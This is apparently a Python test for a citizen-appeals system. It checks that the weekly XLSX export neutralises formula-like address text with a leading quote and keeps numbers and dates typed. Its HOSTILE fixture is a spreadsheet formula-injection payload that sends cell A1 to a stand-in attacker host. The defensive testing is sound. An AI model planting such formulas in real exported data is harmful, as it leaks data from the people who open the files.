"""The weekly XLSX export writes citizen text that looks like a formula as text (OWASP: a
leading single quote); numbers and dates stay numbers and dates."""

from datetime import timedelta
from io import BytesIO

from openpyxl import load_workbook

from otklik.analytics import weekly
from otklik.appeals.workflow import Status
from tests.office.test_weekly import XLSX, at, this_week_start

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Липецк, ул. Ленина, 1")'


def test_an_address_that_looks_like_a_formula_is_written_as_text(client, leadership, appeal_in):
    week = this_week_start()
    late = appeal_in(Status.IN_PROGRESS, now=at(week.start - timedelta(days=60)), address=HOSTILE)
    client.force_login(leadership)
    response = client.get(XLSX, {"week": weekly.week_code(week)})
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content))["Просрочка"]
    row = next(sheet.iter_rows(min_row=2))
    number, days, due, *_rest, address = row
    assert number.value == late.number
    assert address.value == "'" + HOSTILE
    assert address.data_type == "s"
    assert isinstance(days.value, int)
    assert days.data_type == "n"
    assert due.is_date
    assert not any(
        cell.data_type == "f"
        for ws in load_workbook(BytesIO(response.content))
        for r in ws.iter_rows()
        for cell in r
    )
